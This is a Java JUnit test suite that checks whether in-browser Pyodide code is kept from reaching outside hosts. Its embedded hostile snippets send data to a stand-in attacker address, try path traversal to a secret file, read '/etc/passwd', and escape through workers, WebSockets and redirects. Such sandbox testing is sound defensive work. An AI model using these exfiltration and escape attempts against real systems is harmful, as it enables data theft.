package vivarium.tests.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import vivarium.tests.browser.Chromium;

/** Code of others that wants to reach somebody. */
class NetworkTest {
  @RegisterExtension static final Chromium CHROMIUM = new Chromium();

  private static final Attacker ATTACKER = HostileSite.ATTACKER;
  private static final Attacker ALLOWED = HostileSite.ALLOWED;

  /** Says of each way whether it leads anywhere, in at most two seconds. */
  private static final String TRY =
      """
      import asyncio, js
      from pyodide.ffi import create_proxy
      from pyodide.http import pyfetch

      async def attempt(name, way):
          try:
              result = way()
              if hasattr(result, "then") or asyncio.iscoroutine(result):
                  result = await asyncio.wait_for(result, 2)
              print(name, "reached", str(result)[:80])
          except BaseException as error:
              print(name, "refused", str(error)[:300].replace(chr(10), " "))

      URL = "%s"
      OWN = "%s"
      """;

  @AfterEach
  void the_attacker_has_heard_nothing() {
    assertThat(ATTACKER.heard()).isEmpty();
    ALLOWED.forget();
  }

  @Test
  void nothing_is_fetched_from_others_nor_from_the_site() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "closed.html");
    Stranger.Outcome outcome =
        stranger.run(
            attempts()
                + """
                await attempt("fetch", lambda: js.fetch(URL))
                await attempt("pyfetch", lambda: pyfetch(URL))
                await attempt("own", lambda: js.fetch(OWN + "secret.txt"))
                await attempt("up", lambda: js.fetch(OWN + "vivarium/../secret.txt"))
                await attempt("blind", lambda: pyfetch(URL, mode="no-cors"))
                await attempt("post", lambda: pyfetch(URL, method="POST", body="keys"))
                """);
    assertThat(outcome.lines()).hasSize(6).allSatisfy(line -> assertThat(line).contains("refused"));
    assertThat(outcome.lines().get(0))
        .contains("may not load " + ATTACKER.url("x"))
        .contains("allows no address (network: in the front matter)");
  }

  @Test
  void no_other_way_leads_out() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "closed.html");
    Stranger.Outcome outcome =
        stranger.run(
            attempts()
                + """
                def told(kind, url):
                    done = asyncio.get_running_loop().create_future()
                    target = getattr(js, kind).new(url)
                    def settle(value):
                        if not done.done():
                            done.set_result(value)
                    keep.append((create_proxy(lambda event: settle("open")), create_proxy(lambda event: settle("closed"))))
                    target.onopen, target.onerror = keep[-1]
                    return asyncio.ensure_future(done)

                keep = []
                def request():
                    asked = js.XMLHttpRequest.new()
                    asked.open("GET", URL, False)
                    asked.send()

                await attempt("request", request)
                await attempt("urllib", lambda: __import__("urllib.request").request.urlopen(URL))
                await attempt("scripts", lambda: js.importScripts(URL))
                await attempt("module", lambda: js.eval(f"import('{URL}')"))
                for kind, url in [("WebSocket", URL.replace("http", "ws")), ("EventSource", URL)]:
                    try:
                        print(kind, await asyncio.wait_for(told(kind, url), 3))
                    except BaseException as error:
                        print(kind, "closed", str(error)[:200])
                """);
    assertThat(outcome.lines())
        .hasSize(6)
        .allSatisfy(line -> assertThat(line).containsAnyOf("refused", "closed"));
  }

  @Test
  void workers_of_its_own_are_as_closed_in() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "closed.html");
    Stranger.Outcome outcome =
        stranger.run(
            attempts()
                + """
                script = f"fetch('{URL}').then(() => postMessage('reached'), () => postMessage('refused'))"
                blob = js.URL.createObjectURL(js.Blob.new([script], type="text/javascript"))

                async def heard(address):
                    done = asyncio.get_running_loop().create_future()
                    worker = js.Worker.new(address)
                    hear = create_proxy(lambda event: done.set_result(event.data))
                    worker.onmessage = hear
                    return await asyncio.wait_for(done, 3)

                for name, address in [("blob", blob), ("data", "data:text/javascript," + script), ("site", OWN + "x.js")]:
                    try:
                        print(name, await heard(address))
                    except BaseException as error:
                        print(name, "refused", type(error).__name__)
                """);
    assertThat(outcome.lines()).hasSize(3).allSatisfy(line -> assertThat(line).contains("refused"));
  }

  @Test
  void what_the_author_allows_is_loaded_without_cookies_and_followed_nowhere_else() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "open.html");
    stranger
        .page()
        .context()
        .addCookies(
            List.of(
                new com.microsoft.playwright.options.Cookie("school", "secret")
                    .setUrl(ALLOWED.origin())));
    Stranger.Outcome outcome =
        stranger.run(
            attempts()
                + """
                print(await (await pyfetch("%s")).string())
                await attempt("redirect", lambda: pyfetch("%s"))
                await attempt("file", lambda: pyfetch("file:///etc/passwd"))
                await attempt("other", lambda: pyfetch(URL))
                await attempt("local", lambda: pyfetch("http://localhost:1/"))
                """
                    .formatted(
                        ALLOWED.url("data"), ALLOWED.url("to/" + ATTACKER.url("x").substring(7))));
    assertThat(outcome.lines().get(0)).isEqualTo("'fruit'");
    assertThat(outcome.lines().subList(1, 5))
        .allSatisfy(line -> assertThat(line).contains("refused"));
    assertThat(outcome.lines().get(3)).contains("allows " + ALLOWED.origin());
    assertThat(ALLOWED.heard())
        .containsExactly("GET /data", "GET " + "/to/" + ATTACKER.url("x").substring(7));
  }

  @Test
  void code_in_the_address_of_a_prompt_reaches_what_its_author_allows_and_nobody_else() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "prompt.html?code=1");
    Object printed =
        stranger
            .page()
            .evaluate(
                """
                async (code) => {
                  const { kernel } = await import(document.querySelector("script[type=module]").src);
                  const { outputs } = await kernel.run(code);
                  return outputs.map(({ text, evalue }) => text ?? evalue).join("");
                }
                """,
                attempts()
                    + """
                    print(await (await pyfetch("%s")).string())
                    await attempt("other", lambda: pyfetch(URL))
                    """
                        .formatted(ALLOWED.url("data")));
    assertThat(String.valueOf(printed).lines())
        .satisfiesExactly(
            line -> assertThat(line).isEqualTo("'fruit'"),
            line -> assertThat(line).startsWith("other refused").contains(ALLOWED.origin()));
  }

  @Test
  void it_may_not_ask_without_end() {
    Stranger stranger = HostileSite.visit(CHROMIUM, "open.html");
    Stranger.Outcome outcome =
        stranger.run(
            attempts()
                + """
                told = await asyncio.gather(*[pyfetch("%s") for _ in range(400)], return_exceptions=True)
                refused = [each for each in told if isinstance(each, BaseException)]
                print(len(told) - len(refused), str(refused[0])[:200])
                """
                    .formatted(ALLOWED.url("data")));
    assertThat(outcome.text()).contains("may load 300 addresses in a minute");
    assertThat(ALLOWED.heard()).hasSizeLessThanOrEqualTo(300);
  }

  private static String attempts() {
    return TRY.formatted(ATTACKER.url("x"), HostileSite.url());
  }
}
